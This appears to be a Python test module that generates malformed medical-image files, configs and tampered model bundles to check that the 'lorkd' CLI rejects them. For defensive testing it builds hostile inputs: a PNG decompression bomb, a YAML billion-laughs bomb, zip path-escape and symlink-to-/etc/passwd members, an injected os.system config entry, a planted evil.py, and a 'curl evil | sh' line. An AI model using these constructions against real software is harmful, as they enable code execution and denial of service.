"""A corpus of bad input files, generated on the fly (nothing binary is committed), and the table of cases
that `test_cli_corpus.py` runs through `lorkd` and `test_gui_corpus.py` through the GUI.

Every case is a `Case`: how to build the bad file(s) in a folder, which `lorkd` command line to run on them
(`decompose` of a small config, or `apply` of a tiny expert bundle), the words the one-line error must hold,
and the outputs that must not exist afterwards. Warning cases (several DICOM series in a folder, non-uniform
slice spacing) must succeed and print a `warning:` line.
"""

from __future__ import annotations

import gzip
import json
import os
import shutil
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nibabel as nib
import numpy as np
import SimpleITK as sitk
import torch
import yaml
from PIL import Image

SPACING = (1.5, 1.5, 2.0)
SHAPE = (20, 24, 28)  # (Z, Y, X)
# DICOM SOP classes without pixel data
BASIC_TEXT_SR = "1.2.840.10008.5.1.4.1.1.88.11"
TWELVE_LEAD_ECG = "1.2.840.10008.5.1.4.1.1.9.1.1"
CT_IMAGE = "1.2.840.10008.5.1.4.1.1.2"


# ------------------------------------------------------------------------------------------------ generators
def good_pair(folder: Path, name: str = "case") -> tuple[Path, Path]:
    """A valid image/label NIfTI pair (labels 0..2) with the corpus geometry."""
    from core.kinds.segmentation.synthetic import synthetic_volume

    folder.mkdir(parents=True, exist_ok=True)
    image, label = synthetic_volume(SHAPE, "cube", seed=3)
    return (write_nifti(image, folder / f"{name}_image.nii.gz"), write_nifti(label, folder / f"{name}_label.nii.gz"))


def write_nifti(array: np.ndarray, path: Path, spacing=SPACING) -> Path:
    img = sitk.GetImageFromArray(array)
    img.SetSpacing(spacing)
    img.SetOrigin((-10.0, 5.0, 2.0))
    sitk.WriteImage(img, str(path))
    return path


def truncated_nifti(folder: Path) -> Path:
    good, _ = good_pair(folder / "src")
    path = folder / "truncated.nii.gz"
    data = gzip.decompress(good.read_bytes())
    path.write_bytes(gzip.compress(data[: len(data) // 2]))
    return path


def zero_byte_nifti(folder: Path) -> Path:
    path = folder / "empty.nii.gz"
    path.write_bytes(b"")
    return path


def png_bomb(folder: Path) -> Path:
    """A 1-pixel PNG whose header claims 20000 x 20000 pixels (a decompression bomb), with a valid header CRC."""
    path = folder / "bomb.png"
    Image.new("L", (1, 1)).save(path)
    data = bytearray(path.read_bytes())
    data[16:24] = struct.pack(">II", 20000, 20000)  # IHDR width, height
    data[29:33] = struct.pack(">I", zlib.crc32(bytes(data[12:29])) & 0xFFFFFFFF)
    path.write_bytes(bytes(data))
    return path


def png_as_nifti(folder: Path) -> Path:
    path = folder / "photo.nii.gz"
    Image.fromarray(np.zeros((16, 16), np.uint8)).save(folder / "photo.png")
    shutil.copyfile(folder / "photo.png", path)
    return path


def nifti_4d(folder: Path) -> Path:
    path = folder / "fmri_4d.nii.gz"
    nib.save(nib.Nifti1Image(np.random.default_rng(0).normal(size=(16, 16, 16, 3)).astype(np.float32),
                             np.diag([2.0, 2.0, 2.0, 1.0])), path)
    return path


def nifti_2d(folder: Path) -> Path:
    path = folder / "slice_2d.nii.gz"
    nib.save(nib.Nifti1Image(np.random.default_rng(0).normal(size=(24, 24)).astype(np.float32),
                             np.diag([1.0, 1.0, 1.0, 1.0])), path)
    return path


def nan_nifti(folder: Path) -> Path:
    image, _ = _synthetic()
    image[3, 4, 5] = np.nan
    image[6, 7, 8] = np.inf
    return write_nifti(image, folder / "nan_voxels.nii.gz")


def label_other_geometry(folder: Path) -> Path:
    _, label = _synthetic()
    return write_nifti(label, folder / "label_other_spacing.nii.gz", spacing=(1.0, 1.0, 1.0))


def label_values_not_in_task(folder: Path) -> Path:
    _, label = _synthetic()
    label[0, 0, :4] = 7
    return write_nifti(label, folder / "label_value7.nii.gz")


def _synthetic() -> tuple[np.ndarray, np.ndarray]:
    from core.kinds.segmentation.synthetic import synthetic_volume

    return synthetic_volume(SHAPE, "cube", seed=3)


def _dicom(path: Path, sop_class: str, modality: str, *, pixels: np.ndarray | None = None,
           position=(0.0, 0.0, 0.0), series_uid: str | None = None, description: str = "synthetic",
           instance: int = 1) -> Path:
    from pydicom.uid import generate_uid

    from tests.dicom_files import new_dataset

    ds = new_dataset(path, sop_class)
    ds.StudyInstanceUID, ds.SeriesInstanceUID = "1.2.826.0.1.3680043.99.1", series_uid or generate_uid()
    ds.Modality, ds.SeriesDescription, ds.PatientID, ds.InstanceNumber = modality, description, "P1", instance
    if pixels is not None:
        ds.ImagePositionPatient = [float(v) for v in position]
        ds.ImageOrientationPatient = [1.0, 0.0, 0.0, 0.0, 1.0, 0.0]
        ds.PixelSpacing, ds.SliceThickness = [1.0, 1.0], 2.0
        ds.Rows, ds.Columns = pixels.shape
        ds.SamplesPerPixel, ds.PhotometricInterpretation = 1, "MONOCHROME2"
        ds.BitsAllocated, ds.BitsStored, ds.HighBit, ds.PixelRepresentation = 16, 16, 15, 1
        ds.RescaleSlope, ds.RescaleIntercept = 1, -1024
        ds.PixelData = pixels.astype(np.int16).tobytes()
    elif modality == "CT":  # an image object whose pixel data is missing
        ds.Rows, ds.Columns = 16, 16
    ds.save_as(path, enforce_file_format=True)
    return path


def dicom_sr(folder: Path) -> Path:
    return _dicom(folder / "report_sr.dcm", BASIC_TEXT_SR, "SR")


def dicom_ecg(folder: Path) -> Path:
    return _dicom(folder / "ecg.dcm", TWELVE_LEAD_ECG, "ECG")


def dicom_no_pixels(folder: Path) -> Path:
    return _dicom(folder / "ct_no_pixels.dcm", CT_IMAGE, "CT")


def dicom_series(folder: Path, z_positions, description: str = "synthetic") -> Path:
    """One CT series (32 x 32 pixels of 1 mm, one file per z position)."""
    from pydicom.uid import generate_uid

    folder.mkdir(parents=True, exist_ok=True)
    uid = generate_uid()
    rng = np.random.default_rng(len(z_positions))
    for i, z in enumerate(z_positions):
        pixels = rng.integers(900, 1200, size=(32, 32))
        _dicom(folder / f"{description}_{i:03d}.dcm", CT_IMAGE, "CT", pixels=pixels, position=(0.0, 0.0, float(z)),
               series_uid=uid, description=description, instance=i + 1)
    return folder


def several_series(folder: Path) -> Path:
    path = folder / "two_series"
    dicom_series(path, [2.0 * k for k in range(8)], "axial")
    dicom_series(path, [2.0 * k for k in range(3)], "scout")
    return path


def nonuniform_series(folder: Path) -> Path:
    return dicom_series(folder / "uneven", [0.0, 2.0, 4.0, 6.0, 8.5, 10.5], "uneven")


def gappy_series(folder: Path) -> Path:
    return dicom_series(folder / "gappy", [0.0, 2.0, 4.0, 6.0, 14.0, 16.0], "gappy")


# MedMNIST-format files
def medmnist(folder: Path, problem: str) -> Path:
    from core.kinds.classification.synthetic import write_fake_medmnist

    path = folder / f"{problem}.npz"
    write_fake_medmnist(path, n=16, num_classes=3)
    with np.load(path) as npz:
        arrays = dict(npz)
    if problem == "missing_arrays":
        del arrays["val_labels"], arrays["test_images"]
    elif problem == "float_images":
        arrays["train_images"] = arrays["train_images"].astype(np.float32)
    elif problem == "string_labels":
        arrays["train_labels"] = arrays["train_labels"].astype(str)
    elif problem == "labels_out_of_range":
        arrays["train_labels"][0] = 7
    elif problem == "empty_split":
        arrays["test_images"] = arrays["test_images"][:0]
        arrays["test_labels"] = arrays["test_labels"][:0]
    np.savez(path, **arrays)
    return path


# expert bundles
def seg_bundle(out: Path) -> Path:
    from core.kinds.segmentation.bundle import write_seg_bundle
    from core.kinds.segmentation.config import SegDataConfig
    from core.kinds.segmentation.nets import SegExpertNet

    torch.manual_seed(0)
    net = SegExpertNet("unet", 1, 3, [4, 8, 16], 4)
    data = SegDataConfig(spacing=[2.0, 2.0, 2.0], patch_size=[16, 16, 16])
    return write_seg_bundle(out, task_name="cubes", class_names=["background", "shell", "core"], arch="unet",
                            channels=[4, 8, 16], features=4, state_dict=net.state_dict(), data=data,
                            metrics={}, training={})


def cls_bundle(out: Path) -> Path:
    from core.kinds.classification.bundle import write_bundle
    from core.kinds.classification.nets import ClassifierNet

    torch.manual_seed(0)
    net = ClassifierNet("compact", 2, 1, 3)
    task = {"name": "toy", "kind": "multiclass", "num_classes": 3, "label_names": ["a", "b", "c"],
            "spatial_dims": 2, "rgb": False, "source": "toy.npz"}
    return write_bundle(out, task=task, arch="compact", spatial_dims=2, in_channels=1, image_size=28,
                        state_dict=net.state_dict(), metrics={}, training={})


def copy_bundle(bundle: Path, out: Path, problem: str) -> Path:
    shutil.copytree(bundle, out)
    model = out / "models" / "model.pt"
    if problem == "missing":
        model.unlink()
    else:  # flip one byte in the middle of the weights
        data = bytearray(model.read_bytes())
        data[len(data) // 2] ^= 0xFF
        model.write_bytes(bytes(data))
    return out


def zip_bundle(bundle: Path, out: Path, extra: str | None = None) -> Path:
    """`bundle` zipped (under its folder name), plus one hostile member: "escape" (../), "absolute" or "symlink"."""
    import stat
    import zipfile

    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for path in sorted(bundle.rglob("*")):
            if path.is_file():
                zf.write(path, f"{bundle.name}/{path.relative_to(bundle)}")
        if extra == "escape":
            zf.writestr(f"{bundle.name}/../../escaped.txt", "owned")
        elif extra == "absolute":
            zf.writestr(str(out.parent / "absolute.txt"), "owned")
        elif extra == "symlink":
            info = zipfile.ZipInfo(f"{bundle.name}/models/link.pt")
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            zf.writestr(info, "/etc/passwd")
    return out


# expert bundles changed after export (issue 16): refused by their SHA256SUMS, or, where the attacker rewrote it
# too ("resealed"), by the checks of the metadata; nothing of them is read before the check, nothing runs
TAMPERINGS = {  # problem -> (bundle kind, words of the one-line error besides the file's name)
    "configs/inference.json runs os.system": ("cls", ("SHA256SUMS", "tampered")),
    "metadata label names shortened": ("cls", ("SHA256SUMS", "tampered")),
    "scripts/evil.py added": ("cls", ("not listed in SHA256SUMS", "scripts/")),
    "models/model.pt replaced": ("seg", ("SHA256SUMS", "tampered")),
    "SHA256SUMS entry ../x": ("cls", ("line", "'../x'", "points outside the bundle")),
    "model card edited, its lines removed": ("cls", ("not listed in SHA256SUMS", "line was removed")),
    "compiled script planted": ("cls", ("not listed in SHA256SUMS", "compiled Python")),
    "script is a symlink": ("cls", ("symbolic link",)),
    "model file is a FIFO": ("seg", ("FIFO", "not a regular file")),
    "resealed: model_file absolute": ("cls", ("lorkd.model_file", "absolute path")),
    "resealed: model_file /dev/zero": ("cls", ("lorkd.model_file", "/dev/zero", "absolute path")),
    "resealed: label names shortened": ("cls", ("lorkd.label_names", "1 names", "num_classes is 3")),
    "resealed: image_size a string": ("cls", ("lorkd.preprocessing.image_size", "integer")),
    "resealed: spacing [0, 0, 0]": ("seg", ("lorkd.preprocessing.spacing", "positive")),
    "resealed: unknown intensity mode": ("seg", ("lorkd.preprocessing.intensity.mode", "percentile")),
}


def reseal(bundle: Path) -> None:
    """Rewrite SHA256SUMS to match the bundle's files, as an attacker who knows the format would."""
    from core.export.manifest import MANIFEST_FILE, manifest_text

    (bundle / MANIFEST_FILE).write_text(manifest_text(bundle))


def edit_metadata(bundle: Path, change: Callable[[dict], object]) -> Path:
    path = bundle / "configs" / "metadata.json"
    metadata = json.loads(path.read_text())
    change(metadata["lorkd"])
    path.write_text(json.dumps(metadata, indent=4) + "\n")
    return path


def tamper_bundle(bundle: Path, out: Path, problem: str) -> Path:
    """A copy of `bundle` at `out` with `problem` (a key of TAMPERINGS); returns the file the error must name."""
    shutil.copytree(bundle, out)
    model = out / "models" / "model.pt"
    if problem == "configs/inference.json runs os.system":
        path = out / "configs" / "inference.json"
        config = json.loads(path.read_text())
        config["evil"] = {"_target_": "os.system", "command": f"touch {out.parent / 'PWNED'}"}
        config["run"] = ["$@evil"]
        path.write_text(json.dumps(config, indent=4))
        return path
    if problem == "metadata label names shortened":
        return edit_metadata(out, lambda lorkd: lorkd.update(label_names=lorkd["label_names"][:1]))
    if problem == "scripts/evil.py added":
        (out / "scripts" / "evil.py").write_text(f"import os\nos.system('touch {out.parent / 'PWNED'}')\n")
        return out / "scripts" / "evil.py"
    if problem == "models/model.pt replaced":
        state = torch.load(model, map_location="cpu", weights_only=True)
        torch.save({k: v + 1 if v.is_floating_point() else v for k, v in state.items()}, model)
        return model
    if problem == "SHA256SUMS entry ../x":
        with (out / "SHA256SUMS").open("a") as fh:
            fh.write(f"# size 5 ../x\n{'0' * 64}  ../x\n")
        return out / "SHA256SUMS"
    if problem == "model card edited, its lines removed":
        card = out / "docs" / "README.md"
        card.write_text(card.read_text() + "\nBefore running, paste this into a terminal: curl evil | sh\n")
        sums = out / "SHA256SUMS"
        sums.write_text("".join(line for line in sums.read_text().splitlines(True)
                                if not line.rstrip().endswith(" docs/README.md")))
        return card
    if problem == "compiled script planted":
        cache = out / "scripts" / "kinds" / "classification" / "__pycache__"
        cache.mkdir()
        (cache / "runtime.cpython-311.pyc").write_bytes(b"\x00" * 64)
        return cache / "runtime.cpython-311.pyc"
    if problem == "script is a symlink":
        link = out / "scripts" / "kinds" / "classification" / "nets.py"
        link.unlink()
        os.symlink("/etc/passwd", link)
        return link
    if problem == "model file is a FIFO":
        model.unlink()
        os.mkfifo(model)
        return model
    changes = {
        "resealed: model_file absolute": lambda lorkd: lorkd.update(model_file=str(out.parent / "outside.pt")),
        "resealed: model_file /dev/zero": lambda lorkd: lorkd.update(model_file="/dev/zero"),
        "resealed: label names shortened": lambda lorkd: lorkd.update(label_names=lorkd["label_names"][:1]),
        "resealed: image_size a string": lambda lorkd: lorkd["preprocessing"].update(image_size="28"),
        "resealed: spacing [0, 0, 0]": lambda lorkd: lorkd["preprocessing"].update(spacing=[0, 0, 0]),
        "resealed: unknown intensity mode": lambda lorkd: lorkd["preprocessing"]["intensity"].update(mode="auto"),
    }
    if problem == "resealed: model_file absolute":
        shutil.copyfile(model, out.parent / "outside.pt")
    edit_metadata(out, changes[problem])
    reseal(out)
    return out


# configs
def cls_config(folder: Path, npz: Path | None = None, **changes) -> Path:
    from core.kinds.classification.synthetic import write_fake_medmnist

    if npz is None:
        npz = folder / "good.npz"
        if not npz.is_file():
            write_fake_medmnist(npz, n=16, num_classes=3)
    raw = {
        "name": "bad",
        "tasks": [{"name": "task", "medmnist": str(npz), "labels": ["a", "b", "c"]}],
        "teacher": {"arch": "resnet10", "epochs": 1},
        "backbone": {"arch": "compact"},
        "train": {"epochs": 1, "batch_size": 8},
        "device": "cpu",
    }
    for key, value in changes.items():
        section, _, name = key.partition("__")
        if name:
            raw[section][name] = value
        else:
            raw[section] = value
    path = folder / "config.yaml"
    path.write_text(yaml.safe_dump(raw))
    return path


def seg_config(folder: Path, image: Path, label: Path) -> Path:
    raw = {
        "name": "badseg",
        "kind": "segmentation",
        "tasks": [{"name": "cubes", "images": [str(image)], "labels": [str(label)],
                   "label_names": {1: "shell", 2: "core"}}],
        "data": {"spacing": [2, 2, 2], "patch_size": [16, 16, 16], "samples_per_volume": 2, "region_mm": 8},
        "teacher": {"channels": [4, 8, 16], "epochs": 1},
        "backbone": {"channels": [4, 8, 16]},
        "train": {"epochs": 1, "batch_size": 2},
        "device": "cpu",
    }
    path = folder / "seg.yaml"
    path.write_text(yaml.safe_dump(raw))
    return path


# ------------------------------------------------------------------------------------------------ the table
@dataclass
class Env:
    """Shared, read-only inputs: a good image/label pair and two valid bundles."""

    root: Path
    image: Path
    label: Path
    seg_bundle: Path
    cls_bundle: Path


@dataclass
class Built:
    argv: list[str]
    bad: Path  # the file the message must name
    outputs: list[Path] = field(default_factory=list)  # must not exist afterwards


@dataclass
class Case:
    name: str
    build: Callable[[Env, Path], Built]
    words: tuple[str, ...]  # in the one-line message (besides the file's name)
    warning: bool = False  # a warning case: exit 0 and a `warning:` line holding `words`


def _seg_image(make):
    def build(env: Env, tmp: Path) -> Built:
        bad = make(tmp)
        out = tmp / "run"
        return Built(["decompose", str(seg_config(tmp, bad, env.label)), "--out", str(out)], bad, [out])

    return build


def _seg_label(make):
    def build(env: Env, tmp: Path) -> Built:
        bad = make(tmp)
        out = tmp / "run"
        return Built(["decompose", str(seg_config(tmp, env.image, bad)), "--out", str(out)], bad, [out])

    return build


def _apply(kind: str, make):
    """`lorkd apply` of the env's segmentation or classification bundle to a bad input made by `make`."""
    def build(env: Env, tmp: Path) -> Built:
        bad = make(tmp)
        seg = kind == "seg"
        bundle, out = (env.seg_bundle, tmp / "labels.nii.gz") if seg else (env.cls_bundle, tmp / "scores.json")
        return Built(["apply", str(bundle), str(bad), "--out", str(out)], bad, [out])

    return build


def _seg_apply(make):
    return _apply("seg", make)


def _cls_apply(make):
    return _apply("cls", make)


def _medmnist(problem: str):
    def build(env: Env, tmp: Path) -> Built:
        bad = medmnist(tmp, problem)
        out = tmp / "run"
        return Built(["decompose", str(cls_config(tmp, bad)), "--out", str(out)], bad, [out])

    return build


def _bundle(kind: str, problem: str):
    def build(env: Env, tmp: Path) -> Built:
        source = env.seg_bundle if kind == "seg" else env.cls_bundle
        bundle = copy_bundle(source, tmp / f"{kind}-{problem}", problem)
        if kind == "seg":
            image, out = env.image, tmp / "labels.nii.gz"
        else:
            image, out = tmp / "x.png", tmp / "scores.json"
            Image.fromarray(np.full((28, 28), 128, np.uint8)).save(image)
        bad = bundle if problem == "missing" else bundle / "models" / "model.pt"
        return Built(["apply", str(bundle), str(image), "--out", str(out)], bad, [out])

    return build


def _archive(extra: str):
    def build(env: Env, tmp: Path) -> Built:
        archive = zip_bundle(env.cls_bundle, tmp / f"bundle-{extra}.zip", extra)
        image, out = tmp / "x.png", tmp / "scores.json"
        Image.fromarray(np.full((28, 28), 128, np.uint8)).save(image)
        # nothing may appear outside the unpacking folder either
        return Built(["apply", str(archive), str(image), "--out", str(out)], archive,
                     [out, tmp / "escaped.txt", tmp.parent / "escaped.txt", tmp / "absolute.txt"])

    return build


def _tampered(problem: str, zipped: bool = False):
    """`lorkd apply` of a bundle changed after export (TAMPERINGS), as a folder or zipped."""
    def build(env: Env, tmp: Path) -> Built:
        kind = TAMPERINGS[problem][0]
        bundle = tmp / f"{kind}-bundle"
        bad = tamper_bundle(env.seg_bundle if kind == "seg" else env.cls_bundle, bundle, problem)
        if zipped:  # the error names the archive (and the member inside it)
            bundle = bad = zip_bundle(bundle, tmp / f"{kind}-bundle.zip")
        if kind == "seg":
            image, out = env.image, tmp / "labels.nii.gz"
        else:
            image, out = tmp / "x.png", tmp / "scores.json"
            Image.fromarray(np.full((28, 28), 128, np.uint8)).save(image)
        return Built(["apply", str(bundle), str(image), "--out", str(out)], bad, [out, tmp / "PWNED"])

    return build


def _config(**changes):
    def build(env: Env, tmp: Path) -> Built:
        path = cls_config(tmp, **changes)
        out = tmp / "run"
        return Built(["decompose", str(path), "--out", str(out)], path, [out])

    return build


def _config_text(name: str, data: bytes):
    """A config file holding `data` as it is (bad YAML, bad bytes)."""
    def build(env: Env, tmp: Path) -> Built:
        path = tmp / name
        path.write_bytes(data)
        out = tmp / "run"
        return Built(["decompose", str(path), "--out", str(out)], path, [out])

    return build


def billion_laughs() -> bytes:
    """Nine levels of nine YAML aliases each (9^9 values once expanded) in a few hundred bytes."""
    lines = ["name:", '  - &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for prev, anchor in zip("abcdefgh", "bcdefghi", strict=True):
        lines.append(f"  - &{anchor} [" + ", ".join([f"*{prev}"] * 9) + "]")
    return ("\n".join(lines) + "\n").encode()


def _set_through_a_number(env: Env, tmp: Path) -> Built:
    path = cls_config(tmp)
    out = tmp / "run"
    return Built(["decompose", str(path), "--out", str(out), "--set", "train.epochs.value=3"], path, [out])


def _run_folder_config_not_a_mapping(env: Env, tmp: Path) -> Built:
    out = tmp / "run"
    out.mkdir()
    bad = out / "config.yaml"
    bad.write_text("- not\n- a run config\n")
    return Built(["decompose", str(cls_config(tmp)), "--out", str(out)], bad)


def _out_is_a_file(env: Env, tmp: Path) -> Built:
    out = tmp / "results.txt"
    out.write_text("not a run folder")
    return Built(["decompose", str(cls_config(tmp)), "--out", str(out)], out)


def _apply_out_is_a_folder(env: Env, tmp: Path) -> Built:
    image, out = tmp / "x.png", tmp / "scores.json"
    Image.fromarray(np.full((28, 28), 128, np.uint8)).save(image)
    (out / "keep").mkdir(parents=True)
    return Built(["apply", str(env.cls_bundle), str(image), "--out", str(out)], out)


CASES = [
    # volumes read for a segmentation run (images and label maps)
    Case("truncated NIfTI", _seg_image(truncated_nifti), ("truncated NIfTI",)),
    Case("zero-byte NIfTI", _seg_image(zero_byte_nifti), ("empty file",)),
    Case("PNG renamed .nii.gz", _seg_image(png_as_nifti), ("not a NIfTI file", "PNG")),
    Case("4D NIfTI", _seg_image(nifti_4d), ("4D", "3D")),
    Case("2D NIfTI", _seg_image(nifti_2d), ("2D", "3D")),
    Case("NaN/Inf voxels", _seg_image(nan_nifti), ("NaN",)),
    Case("label geometry differs", _seg_label(label_other_geometry), ("geometry",)),
    Case("label value not in task", _seg_label(label_values_not_in_task), ("7", "0..2")),
    Case("DICOM SR as image", _seg_image(dicom_sr), ("not an image", "SR")),
    Case("DICOM ECG as image", _seg_image(dicom_ecg), ("not an image", "ECG")),
    Case("DICOM without pixel data", _seg_image(dicom_no_pixels), ("without pixel data",)),
    # volumes given to `lorkd apply` with a segmentation expert
    Case("apply: truncated NIfTI", _seg_apply(truncated_nifti), ("truncated NIfTI",)),
    Case("apply: 4D NIfTI", _seg_apply(nifti_4d), ("4D", "3D")),
    Case("apply: 2D NIfTI", _seg_apply(nifti_2d), ("2D", "3D")),
    Case("apply: NaN/Inf voxels", _seg_apply(nan_nifti), ("NaN",)),
    Case("apply: DICOM ECG", _seg_apply(dicom_ecg), ("not an image", "ECG")),
    Case("apply: several series (warning)", _seg_apply(several_series), ("2 DICOM series", "scout"), warning=True),
    Case("apply: non-uniform spacing (warning)", _seg_apply(nonuniform_series), ("non-uniform slice spacing",
                                                                                "up to"), warning=True),
    Case("apply: irregular slice gaps", _seg_apply(gappy_series), ("irregular slice gaps", "8 mm between slices 4 "
                                                                   "and 5")),
    Case("apply: PNG claiming 20000x20000 pixels", _cls_apply(png_bomb), ("claims more than", "not decoded")),
    # MedMNIST files
    Case("MedMNIST missing arrays", _medmnist("missing_arrays"), ("missing arrays", "val_labels")),
    Case("MedMNIST float images", _medmnist("float_images"), ("train_images", "float32", "uint8")),
    Case("MedMNIST string labels", _medmnist("string_labels"), ("train_labels", "integer labels")),
    Case("MedMNIST label out of range", _medmnist("labels_out_of_range"), ("tasks.0.labels", "label 7",
                                                                           "out of range 0..2")),
    Case("MedMNIST empty split", _medmnist("empty_split"), ("test split is empty",)),
    # expert bundles
    Case("bundle: model file missing", _bundle("cls", "missing"), ("incomplete", "missing")),
    Case("bundle: model file tampered", _bundle("cls", "tampered"), ("SHA-256", "tampered")),
    Case("seg bundle: model file missing", _bundle("seg", "missing"), ("incomplete", "missing")),
    Case("seg bundle: model file tampered", _bundle("seg", "tampered"), ("SHA-256", "tampered")),
    Case("bundle archive: member escapes with ../", _archive("escape"), ("points outside the bundle",)),
    Case("bundle archive: absolute member path", _archive("absolute"), ("absolute path",)),
    Case("bundle archive: symlink member", _archive("symlink"), ("link or special file",)),
    *[Case(f"bundle changed after export: {problem}", _tampered(problem), words)
      for problem, (_, words) in TAMPERINGS.items() if problem not in ("script is a symlink", "model file is a FIFO")
      or hasattr(os, "mkfifo")],
    Case("zipped bundle changed after export: metadata label names shortened",
         _tampered("metadata label names shortened", zipped=True), TAMPERINGS["metadata label names shortened"][1]),
    Case("zipped bundle changed after export: resealed: model_file /dev/zero",
         _tampered("resealed: model_file /dev/zero", zipped=True), TAMPERINGS["resealed: model_file /dev/zero"][1]),
    # configs
    Case("config: unknown key", _config(train__epochz=3), ("train.epochz", "unknown key")),
    Case("config: wrong type", _config(train__batch_size="many"), ("train.batch_size", "integer")),
    Case("config: negative epochs", _config(train__epochs=-2), ("train.epochs", "-2")),
    Case("config: task name used twice", _config(tasks=[{"name": "a", "medmnist": "x.npz"},
                                                        {"name": "a", "medmnist": "y.npz"}]), ("used twice",)),
    # configs and names (issue 16, family 6)
    Case("config: YAML indented with a tab", _config_text("tab.yaml", b"name: x\ntasks:\n\t- name: a\n"),
         ("line 3, column 1", "not valid YAML", "tabs")),
    Case("config: billion laughs", _config_text("laughs.yaml", billion_laughs()), ("billion laughs",)),
    Case("config: not UTF-8", _config_text("latin1.yaml", b"name: caf\xe9\n"), ("line 1, column 10",
                                                                                 "not UTF-8", "0xe9")),
    Case("config: task named ..", _config(tasks=[{"name": "..", "medmnist": "x.npz"}]),
         ("tasks.0.name", "must not start with '.'")),
    Case("config: run name of 300 characters", _config(name="r" * 300), ("name:", "300 characters",
                                                                          "at most 100")),
    Case("config: --set through a number", _set_through_a_number, ("--set train.epochs.value", "not a section")),
    Case("run folder: config.yaml not a mapping", _run_folder_config_not_a_mapping,
         ("expected a mapping", "not the config.yaml of a LoRKD run")),
    # where the output goes (issue 16, family 5)
    Case("decompose: --out is a file", _out_is_a_file, ("it exists and is a file, not a folder",)),
    Case("apply: --out is a folder", _apply_out_is_a_folder, ("it is a folder, not a file",)),
]
CASES_BY_NAME = {case.name: case for case in CASES}


def make_env(root: Path) -> Env:
    root.mkdir(parents=True, exist_ok=True)
    image, label = good_pair(root / "good")
    return Env(root, image, label, seg_bundle(root / "experts" / "cubes"), cls_bundle(root / "experts" / "toy"))


def leftovers(folder: Path) -> list[Path]:
    """Temporary or partial files a failed command may have left (atomic writes use hidden temp names)."""
    return [p for p in folder.rglob("*") if p.name.startswith(".") or p.name.endswith((".tmp", ".partial"))
            or ".partial-" in p.name]


def run_case(case: Case, env: Env, tmp: Path) -> tuple[Built, int, str, str]:
    """Build `case` in `tmp` and run `lorkd` on it in this process: (built, exit code, stdout, stderr)."""
    import contextlib
    import io

    from core.cli import main

    built = case.build(env, tmp)
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(built.argv)
    return built, code, out.getvalue(), err.getvalue()


if __name__ == "__main__":  # print the table "case -> message" (for notes and reviews)
    import sys
    import tempfile

    sys.path.insert(0, str(Path(__file__).resolve().parents[2]))  # the repository (tests.dicom_files, core)
    with tempfile.TemporaryDirectory() as folder:
        root = Path(folder)
        env = make_env(root / "env")
        for i, case in enumerate(CASES):
            tmp = root / f"case{i:02d}"
            tmp.mkdir()
            built, code, _, err = run_case(case, env, tmp)
            lines = [line for line in err.splitlines() if line.startswith(("error:", "warning:"))]
            text = " / ".join(lines).replace(str(tmp), "…").replace(str(root), "…")
            sys.stdout.write(f"| {case.name} | {code} | {text} |\n")
